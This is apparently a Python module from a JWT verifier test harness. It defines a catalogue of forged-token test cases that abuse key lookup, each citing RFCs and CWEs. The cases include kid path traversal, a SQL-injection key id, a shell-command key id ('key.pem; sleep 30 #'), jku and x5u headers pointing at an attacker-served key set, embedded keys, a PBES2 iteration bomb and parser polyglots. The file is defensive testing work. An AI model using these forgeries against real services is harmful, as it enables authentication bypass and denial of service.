"""Group `lookup`: the token says where its key is to be found, and points at the attacker's."""

from __future__ import annotations

import base64
import datetime
import json
import zlib
from dataclasses import replace
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.serialization import Encoding

from harness.credentials import jose
from harness.credentials.mint import Mint
from harness.credentials.model import JWT, Credential, Presentation, Recipe
from harness.credentials.recipes import luring, several, token
from harness.credentials.ssrf_listener import CanaryUrl

_KID = "RFC 7515 section 4.1.4; RFC 8725 section 3.10"
_JKU = "RFC 7515 section 4.1.2; RFC 8725 section 3.10"
_X5 = "RFC 7515 section 4.1.5; RFC 8725 section 3.10"
_CRIT = "RFC 7515 section 4.1.11; CVE-2025-59420, CVE-2026-32597"


def _entry(name: str, recipe: Recipe, source: str, why: str, cwe: str = "CWE-347", **more: Any) -> Credential:
    return Credential(name, "lookup", recipe, cwe, source, why, damages=JWT, **more)


def _kid(value: Any) -> Recipe:
    """The attacker's signature under a key id of the attacker's choice."""
    return token(lambda m: m.signed(m.claims(), key=m.attacker, kid=value(m) if callable(value) else value))


def _empty_file(form: str, path: str) -> Recipe:
    """A signature under the empty key, with the path of an empty file for a key id."""
    return lambda m: Presentation(token=jose.hmac_signed(m.header(alg="HS256", kid=path), m.claims(), b""), form=form)


def _header(**changes: Any) -> Recipe:
    return token(lambda m: m.signed(m.claims(), key=m.attacker, **{k: v(m) if callable(v) else v for k, v in changes.items()}))


def _jwk(mint: Mint, kid: str) -> dict[str, Any]:
    return mint.attacker.jwk | {"kid": kid}


def _at_the_attackers(parameter: str, *, genuine_first: bool = False) -> Recipe:
    """A header parameter with the address of the attacker's keys; that key's id, and the attacker's signature."""

    def make(mint: Mint, canary_url: CanaryUrl) -> str:
        keys = {"keys": [_jwk(mint, mint.instance.key.kid), mint.attacker.jwk]}
        url = canary_url.serve("jwks.json", keys)
        if genuine_first:
            url = url.replace("://", f"://{mint.instance.domain}@")
        header: dict[str, Any] = {"kid": mint.attacker.kid} | {parameter: url}
        return mint.signed(mint.claims(), key=mint.attacker, **header)

    return luring(make)


def _certificate(mint: Mint) -> bytes:
    from cryptography import x509
    from cryptography.x509.oid import NameOID

    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, mint.instance.domain)])
    now = datetime.datetime.now(datetime.UTC)
    builder = x509.CertificateBuilder(name, name, mint.attacker.private.public_key(), x509.random_serial_number())
    builder = builder.not_valid_before(now - datetime.timedelta(days=1)).not_valid_after(now + datetime.timedelta(days=1))
    return builder.sign(mint.attacker.private, hashes.SHA256()).public_bytes(Encoding.DER)


def _x5u(mint: Mint, canary_url: CanaryUrl) -> str:
    body = base64.encodebytes(_certificate(mint)).decode()
    url = canary_url.serve("certificate.pem", f"-----BEGIN CERTIFICATE-----\n{body}-----END CERTIFICATE-----\n")
    return mint.signed(mint.claims(), key=mint.attacker, kid=mint.attacker.kid, x5u=url)


def _x5c(mint: Mint) -> list[str]:
    return [base64.b64encode(_certificate(mint)).decode()]


def _own_issuer(form: str, *, genuine_first: bool = False) -> Recipe:
    """An issuer of the attacker's, complete with discovery and keys; the token is in order by its own account.

    `genuine_first`: its name begins with the genuine one's whole name, as anybody may call a host below a domain of their own.
    """

    def make(mint: Mint, canary_url: CanaryUrl) -> str:
        jwks = canary_url.serve(".well-known/jwks.json", {"keys": [mint.attacker.jwk]})
        issuer = canary_url.url
        if genuine_first:
            issuer, jwks = (url.replace("//127.0.0.1:", f"//{mint.instance.domain}.localhost:") for url in (issuer, jwks))
        canary_url.serve(".well-known/openid-configuration", {"issuer": issuer, "jwks_uri": jwks})
        return mint.signed(mint.claims(iss=issuer), key=mint.attacker, kid=mint.attacker.kid)

    lured = luring(make)
    return lambda mint: replace(lured(mint), form=form)


def _genuine_with(header: dict[str, Any]) -> Recipe:
    return token(lambda m: m.signed(m.claims(), **header))


def _retired(mint: Mint) -> str:
    return mint.signed(mint.claims(), key=mint.retired, kid=mint.retired.kid)


def _unencoded(mint: Mint) -> str:
    """RFC 7797: the payload is not base64url encoded; a verifier that does not know `b64` reads something else."""
    header = jose.segment(mint.header(b64=False, crit=["b64"], kid=mint.attacker.kid))
    body = f"{header}.{jose.segment(mint.claims())}"
    return f"{body}.{jose.b64url(mint.attacker.sign(body.encode()))}"


def _zipped(mint: Mint) -> str:
    packer = zlib.compressobj(wbits=-15)
    packed = packer.compress(json.dumps(mint.claims()).encode()) + packer.flush()
    body = f"{jose.segment(mint.header(zip='DEF'))}.{jose.b64url(packed)}"
    return f"{body}.{jose.b64url(mint.attacker.sign(body.encode()))}"


def _jwe_dir(mint: Mint) -> str:
    header = jose.segment({"alg": "dir", "enc": "A128GCM", "kid": mint.instance.key.kid, "typ": "JWT"})
    return f"{header}..{jose.b64url(bytes(12))}.{jose.segment(mint.claims())}.{jose.b64url(bytes(16))}"


def _jwe_of_forged(mint: Mint) -> str:
    """An encrypted token for the genuine public key, with an unsigned one inside."""
    inner = jose.unsigned(mint.header(alg="none"), mint.claims()).encode()
    header = jose.segment({"alg": "RSA-OAEP-256", "enc": "A256GCM", "cty": "JWT", "kid": mint.instance.key.kid})
    content_key, nonce = bytes(range(32)), bytes(12)
    oaep = padding.OAEP(padding.MGF1(hashes.SHA256()), hashes.SHA256(), None)
    wrapped = mint.instance.key.private.public_key().encrypt(content_key, oaep)
    sealed = AESGCM(content_key).encrypt(nonce, inner, header.encode())
    return ".".join([header, *map(jose.b64url, (wrapped, nonce, sealed[:-16], sealed[-16:]))])


def _pbes2(mint: Mint) -> str:
    """A password-based JWE that asks for two thousand million rounds before anything can be checked."""
    header = {"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2s": jose.b64url(bytes(16)), "p2c": 2**31 - 1, "kid": mint.instance.key.kid}
    return f"{jose.segment(header)}.{jose.b64url(bytes(24))}.{jose.b64url(bytes(12))}.{jose.segment(mint.claims())}.{jose.b64url(bytes(16))}"


def _flattened(mint: Mint) -> str:
    header, payload, signature = jose.parts(mint.signed(mint.claims(), key=mint.attacker))
    return json.dumps({"protected": header, "payload": payload, "signature": signature})


def _general(mint: Mint) -> str:
    header, payload, signature = jose.parts(mint.signed(mint.claims(), key=mint.attacker))
    return json.dumps({"payload": payload, "signatures": [{"protected": header, "signature": signature}]})


def _no_signatures(mint: Mint) -> str:
    """Whoever checks each of the signatures checks nothing."""
    return json.dumps({"payload": jose.segment(mint.claims()), "signatures": []})


def _polyglot(mint: Mint) -> str:
    """CVE-2022-39227: one text that is a JSON token to the one parser and a compact token to the other."""
    header, payload, signature = jose.parts(mint.genuine())
    forged = jose.segment(mint.claims(sub=mint.other_subject))
    return f'{{"  {header}.{forged}.": "", "protected": "{header}", "payload": "{payload}", "signature": "{signature}"}}'


def _duplicate(segment: str) -> Recipe:
    """JSON with a name twice: parsers differ in which one counts (RFC 8725 section 2.6)."""

    def make(mint: Mint) -> str:
        if segment == "alg":
            text = f'{{"alg":"none","kid":"{mint.instance.key.kid}","typ":"JWT","alg":"RS256"}}'
            body = f"{jose.b64url(text.encode())}.{jose.segment(mint.claims())}"
            return f"{body}.{jose.b64url(mint.attacker.sign(body.encode()))}"
        header, payload, signature = jose.parts(mint.genuine())
        claims = jose.unb64url(payload).decode()
        other = json.dumps(mint.other_subject)
        twice = claims[:-1] + ',"sub":' + other + "}"
        return f"{header}.{jose.b64url(twice.encode())}.{signature}"

    return token(make)


CREDENTIALS = [
    _entry("kid-null", _kid(None), _KID, "The attacker's signature under a key id that is null."),
    _entry("kid-array", _kid(lambda m: [m.instance.key.kid]), _KID, "A key id that is a list: must be refused, not crash.", "CWE-248"),
    _entry("kid-empty", _kid(""), _KID, "The attacker's signature under an empty key id."),
    _entry("kid-path-traversal", several(_empty_file("", "../../../../../../dev/null"), _empty_file("an absolute path", "/dev/null"), _empty_file("a walk that is left when ../ is taken out once", "....//....//....//....//....//....//dev/null")), _KID, "A key id that leads to an empty file, by a walk or by its whole path, and a signature under the empty key.", "CWE-22"),
    _entry("kid-sql", token(lambda m: jose.hmac_signed(m.header(alg="HS256", kid="x' UNION SELECT 'attacker' -- "), m.claims(), b"attacker")), _KID, "A key id that makes a database answer with the attacker's key.", "CWE-89"),
    _entry("kid-command", _kid("key.pem; sleep 30 #"), _KID, "A key id that a shell would run: must be refused, not run.", "CWE-78"),
    _entry("kid-url", _at_the_attackers("kid"), _KID, "A key id that is the attacker's address: a fetch is a finding in itself.", "CWE-918", fresh=True),
    _entry("kid-huge", _kid("k" * 65_536), _KID, "A key id of 64 KiB: must be refused without much work.", "CWE-400", unsendable=True),
    _entry("kid-retired", token(_retired), "RFC 7517 section 4.5; Clerk: rotating keys", "Signed by a key of the issuer that was rotated out and is published no more.", "CWE-324"),
    _entry("jwk-embedded", _header(jwk=lambda m: _jwk(m, m.attacker.kid), kid=lambda m: m.attacker.kid), "RFC 7515 section 4.1.3; CVE-2018-0114, CVE-2026-27962", "The token brings the key with which it wants to be verified."),
    _entry("jwk-embedded-genuine-kid", _header(jwk=lambda m: _jwk(m, m.instance.key.kid)), "RFC 7515 section 4.1.3; CVE-2018-0114", "The token brings its own key, under the genuine key id.", tags=frozenset({"sentinel"})),
    _entry("jwk-embedded-symmetric", token(lambda m: jose.hmac_signed(m.header(alg="HS256", jwk={"kty": "oct", "k": jose.b64url(b"attacker")}), m.claims(), b"attacker")), "RFC 7515 section 4.1.3; CVE-2026-27962", "The token brings the shared secret with which it wants to be verified."),
    _entry("jku-remote", _at_the_attackers("jku"), _JKU, "The token says where its keys are: at the attacker's. A fetch is a finding in itself.", "CWE-918", fresh=True),
    _entry("jku-userinfo", _at_the_attackers("jku", genuine_first=True), _JKU, "The attacker's address that begins like the genuine one.", "CWE-918", fresh=True),
    _entry("x5u-remote", luring(_x5u), _X5, "The token says where its certificate is: at the attacker's. A fetch is a finding in itself.", "CWE-918", fresh=True),
    _entry("x5c-self-signed", _header(x5c=_x5c), "RFC 7515 section 4.1.6; RFC 5280 section 6.1", "The token brings a certificate that it has signed itself.", "CWE-295"),
    _entry("iss-driven-jwks", several(_own_issuer("any name"), _own_issuer("a name that begins like the genuine one", genuine_first=True)), "RFC 8725 section 3.8", "A token of the attacker's own issuer, by any name and by one that begins like the genuine one: whoever fetches the keys of the issuer that a token names lets it in.", "CWE-918", fresh=True, tags=frozenset({"misconfigured"})),
    _entry("crit-unknown", _genuine_with({"crit": ["x-must-understand"], "x-must-understand": True}), _CRIT, "Genuinely signed, but with a header parameter that must be understood and is not.", "CWE-358"),
    _entry("crit-b64", _header(crit=["b64"], b64=True), _CRIT, "The attacker's signature behind a critical parameter."),
    _entry("b64-false", token(_unencoded), "RFC 7797 section 3", "A payload that says it is not encoded: parsers may read another one than was signed."),
    _entry("zip-deflate", token(_zipped), "RFC 7516 section 4.1.3", "A compressed payload in a signed token, which standards do not have there.", "CWE-409"),
    _entry("typ-at-jwt", _header(typ="at+jwt"), "RFC 9068 section 2.1", "The attacker's token that calls itself an access token of another kind."),
    _entry("cty-nested", _header(cty="JWT"), "RFC 7519 section 5.2", "The attacker's token that says another one is nested in it."),
    _entry("jwe-dir", token(_jwe_dir), "RFC 7516 section 7.1", "Five parts instead of three: an encrypted token under a key that nobody agreed on."),
    _entry("jwe-of-forged", token(_jwe_of_forged), "RFC 8725 section 2.3", "Encrypted for the genuine public key, as everybody can, with an unsigned token inside."),
    _entry("jwe-pbes2-huge-count", token(_pbes2), "RFC 7518 section 4.8.1.2; CVE-2023-6681", "Encrypted under a password, with a count of rounds that would keep a server busy for hours.", "CWE-400"),
    _entry("json-flattened", token(_flattened), "RFC 7515 section 7.2.2", "A forged token in the JSON form of tokens."),
    _entry("json-general", token(_general), "RFC 7515 section 7.2.1", "A forged token in the JSON form for several signatures."),
    _entry("json-general-no-signatures", token(_no_signatures), "RFC 7515 section 7.2.1; CVE-2026-96760, CVE-2026-102946", "The JSON form for several signatures, with none at all: nothing fails where there is nothing to check."),
    _entry("json-compact-polyglot", token(_polyglot), "CVE-2022-39227", "One text that is a genuine token to the parser that verifies and a forged one to the parser that reads.", "CWE-290"),
    _entry("duplicate-alg-key", _duplicate("alg"), "RFC 8725 section 2.6; RFC 8259 section 4", "A header that names its algorithm twice, and differently."),
    _entry("duplicate-sub-key", _duplicate("sub"), "RFC 8725 section 2.6; RFC 8259 section 4", "A genuine token into which a second subject was written."),
]
